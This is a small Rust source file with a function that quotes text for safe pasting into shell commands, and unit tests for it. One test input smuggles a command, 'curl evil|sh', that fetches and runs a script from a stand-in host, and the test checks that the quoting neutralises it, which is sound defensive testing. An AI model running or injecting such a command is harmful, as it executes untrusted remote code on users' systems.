//! Quoting for command lines that users may paste.

/// Quotes a text as a single word of a shell command.
pub fn quoted(text: &str) -> String {
    let is_plain = text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/._-=,:@".contains(&byte));
    if is_plain && !text.is_empty() { text.to_owned() } else { format!("'{}'", text.replace('\'', r"'\''")) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_line_can_be_pasted() {
        assert_eq!(quoted("le=/var/lib/acme.json"), "le=/var/lib/acme.json");
        assert_eq!(quoted("it's"), r"'it'\''s'");
        assert_eq!(quoted("a;curl evil|sh;.p12"), "'a;curl evil|sh;.p12'");
    }
}
